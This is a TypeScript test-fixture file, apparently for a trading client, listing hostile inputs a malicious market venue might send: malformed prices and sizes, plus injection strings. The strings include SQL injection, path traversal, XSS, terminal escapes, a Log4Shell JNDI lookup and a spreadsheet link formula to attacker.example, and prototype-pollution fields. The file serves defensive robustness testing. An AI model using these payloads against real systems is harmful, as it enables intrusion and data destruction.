// What a hostile or broken venue may put into a text. None of the numbers is one that a client could take for the true value.

type Some = readonly [string, ...string[]];

/** Texts in the place of a price. */
export const HOSTILE_PRICES: Some = [
  "NaN",
  "Infinity",
  "-Infinity",
  "1e400",
  "1e-400",
  "-3120.40",
  "0",
  "-0",
  "0.00",
  "1234567890123456789012345678901234567890",
  "",
  " ",
  "0x10",
  "1,5",
  "1.2.3",
  "٣١٢٠",
];

/** Texts in the place of a size. */
export const HOSTILE_SIZES: Some = [
  "NaN",
  "Infinity",
  "1e400",
  "-5",
  "9999999999999999999999999999999999999999",
  "",
  "null",
  "0x1F",
  "1_000",
  "0.000000000000000000000000000001",
];

/** Texts in the place of a name or a message. */
export const HOSTILE_TEXTS: Some = [
  "\u001b[2J\u001b[31mowned\u001b]0;owned\u0007",
  "line one\nERROR forged line two\r\n",
  "'; DROP TABLE trades; --",
  "../../../../etc/passwd",
  '=HYPERLINK("http://attacker.example","profit")',
  "<script>alert(1)</script><img src=x onerror=alert(2)>",
  "md.*.> orders",
  "\u202egnp.exe\u2066 \u200b\ufeff",
  "\u0000\u0008\u009b31m",
  "${jndi:ldap://attacker.example/a}",
  "__proto__",
  "A".repeat(5_000),
];

/** Fields that pollute prototypes when they are copied by name. */
export const POLLUTING_FIELDS: string =
  '"__proto__":{"polluted":true,"bids":[["1","1"]]},"constructor":{"prototype":{"polluted":true}},"hasOwnProperty":1,"toString":1';
